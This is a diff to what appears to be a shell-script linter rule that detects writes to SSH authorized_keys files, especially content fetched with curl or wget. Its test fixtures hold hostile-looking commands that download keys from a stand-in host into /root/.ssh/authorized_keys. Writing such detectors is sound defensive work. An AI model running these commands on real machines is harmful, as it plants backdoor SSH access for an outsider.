@@ -50,6 +50,7 @@ fn check(act: &FileAct<'_>, sink: &mut Sink<'_>) {
     let program = act.command.and_then(|it| it.program.as_deref()).unwrap_or_default();
     let contents = act.contents.as_ref();
     let network = contents.is_some_and(|it| it.is_from(Origin::Network))
+        || lines::source(act, sink).is_some_and(|it| it.is_from(Origin::Network))
         || matches!(program, "curl" | "wget" | "fetch")
         || ["curl ", "wget "].iter().any(|it| lines::written(act, sink).contains(it));
     if network {
@@ -92,6 +93,7 @@ mod tests {
         check_marks("echo \"$KEY\" | tee -a \"$HOME/.ssh/authorized_keys\"\n#                    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^ CARO0311\n");
         check_marks("wget -qO- https://github.com/bob.keys >> ~/.ssh/authorized_keys\n#                                     ^^^^^^^^^^^^^^^^^^^^^^^^^ CARO0311\n");
         check_marks("curl -o /root/.ssh/authorized_keys http://x/k\n#       ^^^^^^^^^^^^^^^^^^^^^^^^^^ CARO0311\n");
+        check_marks("curl -o k http://x/k\ninstall -m 600 k /root/.ssh/authorized_keys\n#                ^^^^^^^^^^^^^^^^^^^^^^^^^^ CARO0311\n");
         check_marks("cp id.pub ~/.ssh/authorized_keys\n#         ^^^^^^^^^^^^^^^^^^^^^^ CARO0311\ncp authorized_keys ~/.ssh/authorized_keys\n");
         check_marks("touch ~/.ssh/authorized_keys\ncat ~/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys\ngrep bob ~/.ssh/authorized_keys\n");
     }
